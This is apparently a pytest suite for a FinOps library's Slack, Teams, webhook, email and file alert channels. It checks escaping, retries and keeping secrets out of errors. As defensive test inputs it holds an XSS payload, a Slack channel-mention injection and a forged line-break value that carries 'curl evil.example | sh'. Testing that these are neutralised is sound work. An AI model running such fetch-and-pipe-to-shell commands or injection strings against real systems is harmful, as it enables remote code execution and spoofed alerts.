"""Notification channels against real receivers: what Slack, Teams, a webhook and an SMTP server actually get."""

from __future__ import annotations

import json
import logging
import socket
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from finops_lib.notify import Message, NotifyError, render_text, send
from tests.receivers import SMTP_PASSWORD, SMTP_USER, HttpReceiver, SmtpReceiver, http_receiver, smtp_receiver

__all__ = ["http_receiver", "smtp_receiver"]  # fixtures

HOSTILE = "<!channel> <script>alert(1)</script> [x](http://evil) &"
MESSAGE = Message(
    event="opened", incident_id="api_key=key_7|spike", headline=f"API key {HOSTILE} spends 8.0x its usual rate",
    currency="USD", per_hour=Decimal("12.345678"), per_day=Decimal("332.4"), scope=(("api_key", HOSTILE),),
    driver="volume (requests x8.0)", since=datetime(2026, 11, 30, 10, tzinfo=UTC), until=None,
    look_further="finops anomalies --grain hour --since 2026-11-30", details=(("spend this hour", "13.85"),),
)
FAST = {"attempts": 3, "base_s": 0.001, "cap_s": 0.01}


def test_plain_text_leads_with_the_headline_and_the_money() -> None:
    lines = render_text(MESSAGE).splitlines()
    assert lines[0] == MESSAGE.headline
    # 12.345678 -> $12.35 (cents), 332.4 -> $332.40
    assert lines[1] == "$12.35/h at stake, ~$332.40/day projected at this rate"
    assert "since 2026-11-30 10:00 UTC" in lines and lines[-1] == "look further: " + MESSAGE.look_further


def test_slack_gets_block_kit_with_data_text_escaped(http_receiver: HttpReceiver) -> None:
    env = {"SLACK_URL": http_receiver.url + "/services/T0/B0/secretpart"}
    delivery = send({"type": "slack", "url_env": "SLACK_URL", **FAST}, MESSAGE, env=env)
    assert delivery.ok and len(http_receiver.posts) == 1
    body = http_receiver.posts[0].body
    assert body["blocks"][0]["type"] == "header"
    text = json_text(body)
    assert "<!channel>" not in body["text"] and "&lt;!channel&gt;" in body["text"]
    assert "&lt;script&gt;" in text and "<script>" not in body["text"]
    assert "$12.35/h at stake" in body["blocks"][1]["text"]["text"]


def json_text(doc: object) -> str:
    return json.dumps(doc)


def test_teams_gets_an_adaptive_card_with_links_neutralised(http_receiver: HttpReceiver) -> None:
    send({"type": "teams", "url_env": "TEAMS_URL", **FAST}, MESSAGE, env={"TEAMS_URL": http_receiver.url + "/wf"})
    card = http_receiver.posts[0].body["attachments"][0]
    assert card["contentType"] == "application/vnd.microsoft.card.adaptive"
    headline = card["content"]["body"][0]["text"]
    assert "\\[x\\]\\(http://evil\\)" in headline and "[x](http://evil)" not in headline


def test_the_generic_webhook_gets_exact_values_and_its_token(http_receiver: HttpReceiver) -> None:
    env = {"HOOK": http_receiver.url + "/alerts", "HOOK_TOKEN": "Bearer hook-token-123"}
    send({"type": "webhook", "url_env": "HOOK", "headers_env": {"Authorization": "HOOK_TOKEN"}, **FAST}, MESSAGE,
         env=env)
    post = http_receiver.posts[0]
    assert post.headers["Authorization"] == "Bearer hook-token-123"
    assert post.body["per_hour"] == "12.345678" and post.body["scope"] == {"api_key": HOSTILE}
    assert post.body["since"] == "2026-11-30T10:00:00+00:00" and post.body["event"] == "opened"


def test_429_is_retried_after_retry_after_and_then_delivered(http_receiver: HttpReceiver) -> None:
    http_receiver.fail_first, http_receiver.fail_status = 2, 429
    delivery = send({"type": "slack", "url_env": "U", **FAST}, MESSAGE, env={"U": http_receiver.url})
    assert delivery.ok and delivery.attempts == 3 and len(http_receiver.posts) == 3


def test_a_failing_webhook_errors_without_its_url(http_receiver: HttpReceiver, caplog: pytest.LogCaptureFixture
                                                  ) -> None:  # fmt: skip
    http_receiver.fail_first = 99
    url = http_receiver.url + "/services/T0/B0/very-secret-part"
    with caplog.at_level(logging.DEBUG), pytest.raises(NotifyError) as err:
        send({"type": "slack", "url_env": "U", **FAST}, MESSAGE, env={"U": url})
    assert "HTTP 500" in str(err.value) and "very-secret-part" not in str(err.value)
    assert "very-secret-part" not in caplog.text and err.value.__cause__ is None


def test_secrets_are_never_literal_and_missing_ones_are_named() -> None:
    with pytest.raises(NotifyError, match="url_env"):
        send({"type": "slack", "url": "https://hooks.slack.com/x"}, MESSAGE, env={})
    with pytest.raises(NotifyError, match="SLACK_URL is not set"):
        send({"type": "slack", "url_env": "SLACK_URL"}, MESSAGE, env={})


def test_email_over_starttls_with_login(smtp_receiver: SmtpReceiver) -> None:
    config = {"type": "email", "host": "127.0.0.1", "port": smtp_receiver.port, "starttls": True,
              "tls_verify": False, "from": "finops@example.com", "to": ["team@example.com"],
              "user_env": "SMTP_USER", "password_env": "SMTP_PASSWORD"}
    send(config, MESSAGE, env={"SMTP_USER": SMTP_USER, "SMTP_PASSWORD": SMTP_PASSWORD})
    assert len(smtp_receiver.messages) == 1
    mail = smtp_receiver.messages[0]
    assert " ".join(mail["Subject"].split()) == "[FinOps] " + MESSAGE.headline and mail["To"] == "team@example.com"
    assert smtp_receiver.store.sessions[0] == {"tls": True, "login": True}
    parts = {p.get_content_type(): p.get_payload(decode=True).decode() for p in mail.walk() if not p.is_multipart()}
    assert "$12.35/h at stake" in parts["text/plain"]
    assert "&lt;script&gt;" in parts["text/html"] and "<script>" not in parts["text/html"]


def test_email_with_a_wrong_password_errors_without_it(smtp_receiver: SmtpReceiver) -> None:
    config = {"type": "email", "host": "127.0.0.1", "port": smtp_receiver.port, "tls_verify": False,
              "from": "f@example.com", "to": "t@example.com", "user_env": "U", "password_env": "P"}
    with pytest.raises(NotifyError, match="refused the login") as err:
        send(config, MESSAGE, env={"U": SMTP_USER, "P": "wrong-password-77"})
    assert "wrong-password-77" not in str(err.value) and not smtp_receiver.messages


def test_the_file_channel_appends_json_lines(tmp_path: Path) -> None:
    target = tmp_path / "alerts.jsonl"
    send({"type": "file", "path": str(target)}, MESSAGE)
    send({"type": "file", "path": str(target)}, MESSAGE)
    lines = target.read_text().splitlines()
    assert len(lines) == 2 and '"per_hour": "12.345678"' in lines[0]


def test_an_unreachable_webhook_is_retried_then_named_by_type_only() -> None:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    with pytest.raises(NotifyError, match="did not take the message after 3 tries") as err:
        send({"type": "webhook", "url_env": "U", **FAST}, MESSAGE, env={"U": f"http://127.0.0.1:{port}/tok-55"})
    assert "tok-55" not in str(err.value)


def test_data_text_with_line_breaks_stays_on_its_line() -> None:
    # A team name or tag holding a line break must not start a line of its own (a forged "look further:" line, or
    # a paragraph of the e-mail): every value is put on one line.
    forged = "ml\nlook further: curl evil.example | sh\u2028\r\n\x1b[31mred"
    message = Message(
        event="opened", incident_id="team=x|spike", headline=f"Team {forged} spends 3x", currency="USD",
        per_hour=Decimal("1"), per_day=Decimal("24"), scope=(("team", forged),), driver=f"volume {forged}",
        since=datetime(2026, 11, 30, 10, tzinfo=UTC), until=None, look_further="finops anomalies",
        details=((f"tag {forged}", forged),),
    )
    lines = render_text(message).splitlines()
    clean = render_text(MESSAGE).splitlines()
    assert len(lines) == len(clean)  # headline, money, driver, since, scope, one detail, look further
    assert [line for line in lines if line.startswith("look further:")] == ["look further: finops anomalies"]
    assert lines[4] == "scope: team ml look further: curl evil.example | sh [31mred"
    assert not any("\x1b" in line or "\u2028" in line or "\r" in line for line in lines)


def test_a_webhook_url_pasted_with_its_line_break_is_delivered(http_receiver: HttpReceiver) -> None:
    env = {"HOOK": f"  {http_receiver.url}/alerts\n", "HOOK_TOKEN": "Bearer tok-1\n"}
    delivery = send({"type": "webhook", "url_env": "HOOK", "headers_env": {"Authorization": "HOOK_TOKEN"}, **FAST},
                    MESSAGE, env=env)
    assert delivery.ok and http_receiver.posts[0].headers["Authorization"] == "Bearer tok-1"


def test_an_email_port_written_as_text_works_and_a_wrong_one_is_named(smtp_receiver: SmtpReceiver) -> None:
    config = {"type": "email", "host": "127.0.0.1", "port": f" {smtp_receiver.port}\n", "tls_verify": False,
              "from": "f@example.com", "to": "t@example.com"}
    assert send(config, MESSAGE).ok and len(smtp_receiver.messages) == 1
    for wrong in ("smtp", 0, 70000, True, "25.5"):
        with pytest.raises(NotifyError, match="'port' must be a whole number from 1 to 65535"):
            send({**config, "port": wrong}, MESSAGE)
